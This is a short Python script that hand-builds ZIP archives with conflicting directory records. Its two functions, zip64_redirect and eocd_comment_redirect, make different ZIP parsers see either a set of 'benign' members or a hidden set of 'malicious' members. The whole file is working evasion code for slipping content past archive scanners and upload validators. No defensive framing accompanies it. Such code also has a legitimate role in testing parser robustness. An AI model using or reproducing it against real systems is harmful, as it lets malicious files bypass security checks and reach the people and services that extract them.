import struct, zlib
def lfh(name, data):
    n = name.encode()
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(n), 0) + n + data
def cdh(name, data, off):
    n = name.encode()
    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(n), 0, 0, 0, 0, 0, off) + n
def eocd(entries, cd_size, cd_off, comment_len=0):
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, cd_size, cd_off, comment_len)
def z64eocd(entries, cd_size, cd_off):
    return struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, cd_size, cd_off)
def z64loc(rec_off):
    return struct.pack("<4sIQI", b"PK\x06\x07", 0, rec_off, 1)

class Z:
    def __init__(self): self.buf = bytearray(); self.members = {}
    def add(self, group, name, data):
        off = len(self.buf); self.buf += lfh(name, data)
        self.members.setdefault(group, []).append((name, data, off))
    def raw(self, b): self.buf += b
    def cd(self, group):
        off = len(self.buf)
        for name, data, o in self.members[group]:
            self.buf += cdh(name, data, o)
        return off, len(self.buf) - off, len(self.members[group])

def zip64_redirect(benign, malicious):
    """malicious members first (never walked), then benign; 32-bit EOCD -> benign CD, zip64 EOCD -> malicious CD"""
    z = Z()
    for n, d in malicious: z.add("m", n, d)
    for n, d in benign: z.add("b", n, d)
    b_off, b_size, b_n = z.cd("b")
    m_off, m_size, m_n = z.cd("m")
    rec = len(z.buf)
    z.raw(z64eocd(m_n, m_size, m_off))
    z.raw(z64loc(rec))
    eocd_pos = len(z.buf)
    z.raw(eocd(b_n, eocd_pos - b_off, b_off))   # benign CD "size" spans up to EOCD so concat == 0
    return bytes(z.buf)

def eocd_comment_redirect(benign, malicious):
    """benign zip with valid EOCD, then malicious members + CD + EOCD whose comment length overruns the file"""
    z = Z()
    for n, d in benign: z.add("b", n, d)
    b_off, b_size, b_n = z.cd("b")
    z.raw(eocd(b_n, b_size, b_off, 0))
    for n, d in malicious: z.add("m", n, d)
    m_off, m_size, m_n = z.cd("m")
    z.raw(eocd(m_n, m_size, m_off, 0xffff))
    return bytes(z.buf)
